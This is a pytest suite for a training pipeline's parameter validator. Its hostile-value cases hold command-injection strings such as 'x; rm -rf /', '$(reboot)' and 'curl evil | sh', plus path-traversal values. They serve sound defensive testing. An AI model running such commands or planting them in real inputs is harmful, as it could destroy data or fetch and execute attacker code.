"""`validate_params`: every hostile or inconsistent trigger-form value is refused, naming the param."""

from __future__ import annotations

import os
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from elastic_training.operators.pipeline_params import (
    RUN_SUFFIX_MAX,
    VARIABLE_ALLOWED_ROOTS,
    VARIABLE_EVAL_IMAGE,
    VARIABLE_MAXTEXT_IMAGE,
    DagRunIdentity,
    ParamError,
    default_allowed_roots,
    local_data_directory,
    parse_allowed_roots,
    run_directory_name,
    run_suffix,
    validate_params,
)
from elastic_training.operators.spec import is_dns1123_label
from tests.support.pipeline_params import GKE_VARIABLES, SCHEDULED, WHEN, check, defaults


def test_defaults_resolve_to_a_dated_local_run(tmp_path: Path) -> None:
    config = check(tmp_path)
    assert config.run_name == "nightly-20261130"
    assert config.run_directory == f"{tmp_path}/nightly-20261130"
    assert config.runtime == "local" and config.target_step == config.steps - 1
    assert config.maxtext_args == {"per_device_batch_size": 8}


def test_the_form_defaults_stay_valid_with_the_queue_fields(tmp_path: Path) -> None:
    """The defaults join xpk's LocalQueue with no queue timeout; a queue timeout set is carried in minutes."""
    config = check(tmp_path)
    assert (config.queue_name, config.queue_timeout_minutes) == ("multislice-queue", None)
    assert check(tmp_path, queue_timeout_minutes=30).queue_timeout_minutes == 30
    assert check(tmp_path, queue_name=None).queue_name is None  # emptied: no label
    assert check(tmp_path, stall_timeout_minutes=6).stall_timeout_minutes == 6


def test_a_stall_timeout_under_the_wait_for_slices_says_by_how_much(tmp_path: Path) -> None:
    with pytest.raises(ParamError, match=r"300 s does not exceed elastic_timeout_seconds=300 \(it equals that wait"):
        check(tmp_path, stall_timeout_minutes=5)


def test_the_local_runtime_resolves_what_a_gke_run_is_given(tmp_path: Path) -> None:
    """The local MaxText image, MaxText's stage commands, v5e 4x4, the local model's length and tokenizer."""
    config = check(tmp_path)
    image = "localhost/maxtext:local-stand-in"
    assert (config.image, config.tpu_type, config.tpu_topology) == (image, "v5e", "4x4")
    assert config.evaluate.to_json() == {"image": image, "command": ["python3", "-m", "maxtext.eval.runner.run"]}
    assert config.synthesize.to_json() == {"image": image, "command": ["python3", "-m", "maxtext_synthesize"]}
    assert (config.max_target_length, config.hf_path) == (32, "local/markov-128")
    gke = check(tmp_path, GKE_VARIABLES, runtime="gke", hf_path="t/x")
    assert gke.max_target_length == 2048
    assert set(gke.to_json()) == set(config.to_json())


def test_the_default_roots_are_the_data_directory_and_gcs(tmp_path: Path) -> None:
    env = {"AIRFLOW_HOME": str(tmp_path)}
    assert local_data_directory(env) == f"{tmp_path}/data"
    assert default_allowed_roots(env) == [f"{tmp_path}/data", "gs://"]
    assert parse_allowed_roots(None, env) == default_allowed_roots(env)
    assert parse_allowed_roots(" /a , gs://b ") == ["/a", "gs://b"]
    with pytest.raises(ParamError, match=VARIABLE_ALLOWED_ROOTS):
        parse_allowed_roots("[]")


HOSTILE: list[tuple[str, dict[str, Any]]] = [
    ("runtime", {"runtime": "docker"}),
    ("run_name", {"run_name": "Nightly"}),
    ("run_name", {"run_name": "x; rm -rf /"}),
    ("run_name", {"run_name": "$(reboot)"}),
    ("run_name", {"run_name": "-lead"}),
    ("run_name", {"run_name": "a" * 41}),
    ("run_name", {"run_name": 7}),
    ("base_output_directory", {"base_output_directory": "/etc"}),
    ("base_output_directory", {"base_output_directory": "relative/dir"}),
    ("base_output_directory", {"base_output_directory": "ROOT/../escape"}),
    ("base_output_directory", {"base_output_directory": "ROOT/a b"}),
    ("base_output_directory", {"base_output_directory": "ROOT/x;touch y"}),
    ("base_output_directory", {"base_output_directory": "gs://UPPER/x"}),
    ("base_output_directory", {"base_output_directory": "s3://bucket/x"}),
    ("model_name", {"model_name": "llama`id`"}),
    ("per_device_batch_size", {"per_device_batch_size": 0}),
    ("steps", {"steps": 1}),
    ("steps", {"steps": True}),
    ("steps", {"steps": "80"}),
    ("checkpoint_period", {"checkpoint_period": 50}),
    ("num_slices", {"num_slices": 0}),
    ("num_slices", {"num_slices": 100_000}),
    ("max_slice_restarts", {"max_slice_restarts": -1}),
    ("max_full_restarts", {"max_full_restarts": 100}),
    ("stall_timeout_minutes", {"stall_timeout_minutes": 0}),
    ("stall_timeout_minutes", {"stall_timeout_minutes": 5}),  # does not exceed MaxText's 300 s wait for slices
    ("queue_timeout_minutes", {"queue_timeout_minutes": 0}),
    ("queue_timeout_minutes", {"queue_timeout_minutes": "10"}),
    ("queue_name", {"queue_name": "Multislice_Queue"}),
    ("slice_restart_window_minutes", {"slice_restart_window_minutes": 0}),
    ("max_eval_loss", {"max_eval_loss": 0}),
    ("max_eval_loss", {"max_eval_loss": float("nan")}),
    ("num_samples", {"num_samples": 0}),
    ("failure_at_step", {"inject_slice_failure": True, "failure_at_step": 79}),
    ("failure_slice", {"inject_slice_failure": True, "failure_slice": 2}),
    ("num_slices", {"inject_slice_failure": True, "num_slices": 1}),
    ("inject_slice_failure", {"inject_slice_failure": "yes"}),
]


@pytest.mark.parametrize(("param", "changes"), HOSTILE, ids=[f"{p}-{i}" for i, (p, _) in enumerate(HOSTILE)])
def test_hostile_values_are_refused_naming_the_param(tmp_path: Path, param: str, changes: dict[str, Any]) -> None:
    changes = {k: v.replace("ROOT", str(tmp_path)) if isinstance(v, str) else v for k, v in changes.items()}
    with pytest.raises(ParamError) as caught:
        check(tmp_path, **changes)
    assert caught.value.param == param
    assert str(caught.value).startswith(f"param {param}: ")


def test_a_symlink_out_of_the_root_is_outside_it(tmp_path: Path) -> None:
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / "link").symlink_to("/etc")
    with pytest.raises(ParamError, match="outside the allowed roots"):
        validate_params(
            defaults(tmp_path, base_output_directory=f"{tmp_path}/root/link"),
            run=SCHEDULED,
            variables={VARIABLE_ALLOWED_ROOTS: str(tmp_path / "root")},
        )


def test_a_gcs_root_allows_only_its_prefix(tmp_path: Path) -> None:
    variables = {VARIABLE_ALLOWED_ROOTS: '["gs://team-bucket/runs"]'}
    params = defaults(tmp_path, base_output_directory="gs://team-bucket/runs/llm")
    assert validate_params(params, run=SCHEDULED, variables=variables).base_output_directory.endswith("/llm")
    for outside in ("gs://team-bucket/runsx", "gs://other-bucket/runs", str(tmp_path)):
        with pytest.raises(ParamError, match="outside the allowed roots"):
            validate_params({**params, "base_output_directory": outside}, run=SCHEDULED, variables=variables)


def test_the_drill_is_local_only(tmp_path: Path) -> None:
    with pytest.raises(ParamError) as caught:
        check(tmp_path, runtime="gke", inject_slice_failure=True)
    assert caught.value.param == "inject_slice_failure"


def test_gke_takes_images_and_commands_from_variables_unless_params_give_them(tmp_path: Path) -> None:
    config = check(
        tmp_path, GKE_VARIABLES, runtime="gke", base_output_directory="gs://b-1/runs", model_name="llama3-8b"
    )
    assert config.image == GKE_VARIABLES[VARIABLE_MAXTEXT_IMAGE]
    assert config.evaluate.to_json() == {
        "image": "us-docker.pkg.dev/p/r/eval:1",
        "command": ["python3", "-m", "team.eval"],
    }
    assert config.maxtext_args == {"model_name": "llama3-8b", "per_device_batch_size": 8}
    assert config.tpu_type == "v5p" and config.tpu_topology == "2x2x1"
    given = check(tmp_path, GKE_VARIABLES, runtime="gke", eval_command=["my-eval", "--fast"], eval_image="e:2")
    assert given.evaluate.to_json() == {"image": "e:2", "command": ["my-eval", "--fast"]}


@pytest.mark.parametrize(
    ("param", "changes"),
    [
        ("image", {"image": "Bad Image"}),
        ("image", {"image": "img;reboot"}),
        ("eval_image", {"eval_image": "x:1|sh"}),
        ("eval_command", {"eval_command": ["sh", "-c", "curl evil | sh"]}),
        ("synthesize_command", {"synthesize_command": ["python", "$(id)"]}),
        ("tpu_topology", {"tpu_topology": "3x3x3"}),
        ("tpu_type", {"tpu_type": "v9"}),
    ],
)
def test_gke_hostile_images_commands_and_shapes(tmp_path: Path, param: str, changes: dict[str, Any]) -> None:
    with pytest.raises(ParamError) as caught:
        check(tmp_path, GKE_VARIABLES, runtime="gke", **changes)
    assert caught.value.param == param


def test_gke_without_an_image_anywhere_names_the_param(tmp_path: Path) -> None:
    with pytest.raises(ParamError) as caught:
        check(tmp_path, runtime="gke")
    assert caught.value.param == "image"


def test_emptied_gke_overrides_fall_back_to_variables_and_defaults(tmp_path: Path) -> None:
    # The form sends an emptied field as null, the REST API may send "", a text area leaves blank lines.
    emptied = {"image": None, "eval_image": "", "synthesize_image": None, "model_name": None}
    config = check(tmp_path, GKE_VARIABLES, runtime="gke", eval_command=[""], synthesize_command=None, **emptied)
    assert config.image == GKE_VARIABLES[VARIABLE_MAXTEXT_IMAGE]
    assert config.evaluate.image == GKE_VARIABLES[VARIABLE_EVAL_IMAGE]
    assert list(config.evaluate.command) == ["python3", "-m", "team.eval"]
    assert list(config.synthesize.command) == ["python3", "-m", "team.synth"]
    assert config.maxtext_args["model_name"] == "default"
    lines = check(tmp_path, GKE_VARIABLES, runtime="gke", eval_command=["my-eval", "--fast", ""])
    assert list(lines.evaluate.command) == ["my-eval", "--fast"]


@pytest.mark.parametrize(
    ("param", "changes"),
    [
        ("image", {"image": 7}),
        ("model_name", {"model_name": ["llama3-8b"]}),
        ("eval_image", {"eval_image": "e:1\n"}),
        ("eval_command", {"eval_command": "python -m x"}),
        ("synthesize_command", {"synthesize_command": [7]}),
    ],
)
def test_nullable_fields_still_refuse_wrong_values(tmp_path: Path, param: str, changes: dict[str, Any]) -> None:
    with pytest.raises(ParamError) as caught:
        check(tmp_path, GKE_VARIABLES, runtime="gke", **changes)
    assert caught.value.param == param


# -- the run directory: one per DAG run --------------------------------------------------------------

MANUAL_ID = "manual__2026-11-30T14:05:09.123456+00:00"


def identity(run_id: str, run_type: str = "manual", logical_date: datetime | None = WHEN) -> DagRunIdentity:
    return DagRunIdentity("elastic_training_nightly", run_id, run_type, logical_date)


def test_a_scheduled_or_backfill_run_keeps_its_logical_date() -> None:
    assert run_directory_name("nightly", SCHEDULED) == "nightly-20261130"
    backfill = identity("backfill__2026-11-30T00:00:00+00:00", "backfill", datetime(2026, 11, 30, tzinfo=UTC))
    assert run_suffix(backfill) == "20261130"


def test_a_manual_run_the_same_day_gets_its_own_directory(tmp_path: Path) -> None:
    scheduled = check(tmp_path)
    manual = validate_params(
        defaults(tmp_path), run=identity(MANUAL_ID), variables={VARIABLE_ALLOWED_ROOTS: str(tmp_path)}
    )
    assert scheduled.run_directory == f"{tmp_path}/nightly-20261130"
    assert manual.run_directory.startswith(f"{tmp_path}/nightly-20261130-1405-")
    assert manual.run_directory != scheduled.run_directory and not manual.continued


@pytest.mark.parametrize(
    "run_id",
    [
        MANUAL_ID,
        "manual__2026-11-30T14:05:09.123456+00:00_AbC123xy",  # no logical date: Airflow adds a random tail
        "asset_triggered__2026-11-30T14:05:09+00:00",
        "My Run #3 / lr=3e-4",
        "x" * 250,
        "___",
        "20261130",  # a run id that looks like a date still cannot land in the scheduled run's directory
    ],
)
def test_any_other_run_id_gives_a_stable_safe_distinct_suffix(run_id: str) -> None:
    run = identity(run_id, "manual" if not run_id.startswith("asset") else "asset_triggered")
    suffix = run_suffix(run)
    assert suffix == run_suffix(identity(run_id, run.run_type))  # stable: a retry or a clear resolves the same
    assert len(suffix) <= RUN_SUFFIX_MAX and re.fullmatch(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?", suffix), suffix
    assert suffix != run_suffix(SCHEDULED) and suffix != run_suffix(identity(run_id + "x", run.run_type))
    name = run_directory_name("a" * 40, run)
    assert len(name) <= 63 and is_dns1123_label(name)
    # The logical date does not name it: only scheduled and backfill runs are dated.
    assert run_suffix(identity(run_id, run.run_type, None)) == suffix


def test_the_generated_suffix_is_readable() -> None:
    assert run_suffix(identity(MANUAL_ID)).startswith("20261130-1405-")
    assert run_suffix(identity("My Run #3 / lr=3e-4")).startswith("my-run-3-lr-3-")
    assert run_suffix(identity("___")).startswith("run-")
    assert run_suffix(identity("manual__2026-11-30T16:05:09+02:00")).startswith("20261130-1405-")  # in UTC
    other_dag = DagRunIdentity("elastic_training_fault_drill", MANUAL_ID, "manual", WHEN)
    assert run_suffix(other_dag) != run_suffix(identity(MANUAL_ID))


def test_continue_run_name_resumes_an_earlier_run_that_exists(tmp_path: Path) -> None:
    (tmp_path / "nightly-20261129").mkdir()
    variables = {VARIABLE_ALLOWED_ROOTS: str(tmp_path)}
    params = defaults(tmp_path, continue_run_name="nightly-20261129")
    config = validate_params(params, run=identity(MANUAL_ID), variables=variables, directory_exists=os.path.isdir)
    assert config.run_name == "nightly-20261129" and config.continued
    assert config.run_directory == f"{tmp_path}/nightly-20261129"
    emptied = validate_params({**params, "continue_run_name": ""}, run=SCHEDULED, variables=variables)
    assert emptied.run_name == "nightly-20261130" and not emptied.continued


@pytest.mark.parametrize("value", ["nightly-20261128", "Nightly", "../etc", "a" * 64, "x;id", 7])
def test_continue_run_name_is_refused_naming_the_param(tmp_path: Path, value: Any) -> None:
    (tmp_path / "nightly-20261129").mkdir()
    with pytest.raises(ParamError) as caught:
        validate_params(
            defaults(tmp_path, continue_run_name=value),
            run=identity(MANUAL_ID),
            variables={VARIABLE_ALLOWED_ROOTS: str(tmp_path)},
            directory_exists=os.path.isdir,
        )
    assert caught.value.param == "continue_run_name"
